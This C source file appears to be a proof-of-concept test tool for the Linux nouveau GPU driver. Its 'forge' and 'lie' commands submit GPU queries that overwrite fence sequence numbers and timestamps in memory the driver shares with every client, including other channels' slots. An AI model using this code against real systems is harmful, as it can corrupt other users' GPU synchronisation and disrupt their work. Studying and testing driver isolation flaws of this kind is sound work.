// SPDX-License-Identifier: GPL-2.0
/*
 * abuse - clients that write into the memory of nouveau's fences, which nouveau maps into every
 * client's address space: a slot for each channel, with the number of its latest fence that the GPU
 * has reached, and the time.
 */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "abuse.h"

#define SLOT		16		/* bytes */
#define SLOT_TIME	8		/* offset of the time */
#define AHEAD		0x40000000u	/* no channel has made so many fences */
#define QUERY		0x0310		/* compute: address, number, how */
#define TIMED		0		/* number and time, 16 bytes */
#define SHORT		0x8000		/* the number alone */
#define QUERY_WORDS	5
#define HEAD_WORDS	5		/* of a group: which object, and where its memory is */
#define TIMES		(RESULTS + PAGE / 2)	/* where groups leave when they began */

/* The time that a client writes into a slot: see do_lie(). */
enum lie { ZERO, OLD, FUTURE, BEGIN };

static const char *const lies[] = {
	[ZERO] = "zero", [OLD] = "old", [FUTURE] = "future", [BEGIN] = "begin",
};

static uint32_t *words_of(const struct chan *ch, uint32_t seq)
{
	return (uint32_t *)(ch->map + slot_of(seq) * SLOT_BYTES);
}

/* In all groups of the channel, behind what was put there before. Return: index of the number. */
static uint32_t put_query(struct chan *ch, uint32_t at, uint64_t address, uint32_t step, uint32_t how)
{
	uint32_t i;

	for (i = 0; i < SLOTS; i++) {
		const uint64_t to = address + i * step;
		const uint32_t query[QUERY_WORDS] = {
			4 << 18 | SUBCHANNEL << 13 | QUERY, (uint32_t)(to >> 32), (uint32_t)to, 0, how,
		};
		uint32_t *words = words_of(ch, i);

		memmove(words + at + QUERY_WORDS, words + at, (ch->words - at) * 4);
		memcpy(words + at, query, sizeof(query));
	}
	ch->words += QUERY_WORDS;
	ch->patch += QUERY_WORDS;
	return at + 3;
}

static bool is_idle(const struct chan *ch)
{
	struct drm_nouveau_gem_cpu_prep prep = {
		.handle = ch->handle, .flags = NOUVEAU_GEM_CPU_PREP_NOWAIT,
	};

	return !talk(ch->fd, DRM_IOW(DRM_COMMAND_BASE + DRM_NOUVEAU_GEM_CPU_PREP,
				     struct drm_nouveau_gem_cpu_prep), &prep);
}

/*
 * forge N COST SLOTS: N groups, each submitted while the slot of the channel says that the GPU has
 * reached it already. SLOTS: where the memory of the fences lies in a client's address space.
 */
void do_forge(char **args)
{
	unsigned int n = number(args[0]), cost_us = number(args[1]), early = 0;
	const uint64_t slots = strtoull(args[2], NULL, 0);
	struct chan ch;
	uint32_t value, i;

	chan_new(&ch, open_node(), cost_us);
	value = put_query(&ch, HEAD_WORDS, slots + SLOT * ch.id, 0, SHORT);
	for (i = 0; i < SLOTS; i++)
		words_of(&ch, i)[value] = AHEAD;
	for (i = 1; i <= n; i++) {
		must("submission", submit(&ch, i));
		sleep_ms(cost_us / 2000);
		early += is_idle(&ch);
	}
	if (early < n / 2)
		fail("%u of %u groups were over too early: the slots are not at %s", early, n,
		     args[2]);
	sleep_ms(cost_us / 1000 * SLOTS);
	printf("%u of %u were over too early\n", early, n);
}

/* When the group @seq began, by the GPU's clock. Waits until it has begun. */
static uint32_t began(const struct chan *ch, uint32_t seq)
{
	volatile uint32_t *query = (uint32_t *)(ch->map + TIMES + slot_of(seq) * SLOT);

	while (query[0] != seq)
		sleep_ms(1);
	return query[2];
}

static volatile sig_atomic_t over;

static void on_term(__attribute__((unused)) int sig)
{
	over = 1;
}

/*
 * lie WHAT CHANNEL COST SLOTS: groups back to back, until SIGTERM. Each begins with writing WHAT into
 * the time of CHANNEL's slot, 0: its own: that the latest group of that channel ended at 0, when
 * this client began (old), in two seconds (future), or when it had begun itself (begin). SLOTS: as
 * of forge.
 */
void do_lie(char **args)
{
	uint32_t channel = number(args[1]), value, stamp, old = 0, seq, what;
	const uint64_t slots = strtoull(args[3], NULL, 0);
	struct chan ch;

	for (what = 0; what < ARRAY_SIZE(lies) && strcmp(args[0], lies[what]); what++)
		;
	if (what == ARRAY_SIZE(lies))
		fail("%s is no lie", args[0]);
	chan_new(&ch, open_node(), number(args[2]));
	channel = channel ?: (uint32_t)ch.id;
	value = put_query(&ch, HEAD_WORDS, slots + SLOT * channel + SLOT_TIME, 0, SHORT);
	stamp = put_query(&ch, HEAD_WORDS + QUERY_WORDS, ch.address + TIMES, SLOT, TIMED);
	signal(SIGTERM, on_term);
	for (seq = 1; !over; seq++) {
		const uint32_t now = seq > 1 ? began(&ch, seq - 1) : 0;

		old = old ?: now;
		words_of(&ch, seq)[value] = what == ZERO ? 0 : what == OLD ? old :
					    what == FUTURE ? now + 2000000000u : now;
		words_of(&ch, seq)[stamp] = seq;
		must("submission", submit(&ch, seq));
	}
	must("wait", chan_wait(&ch));
}
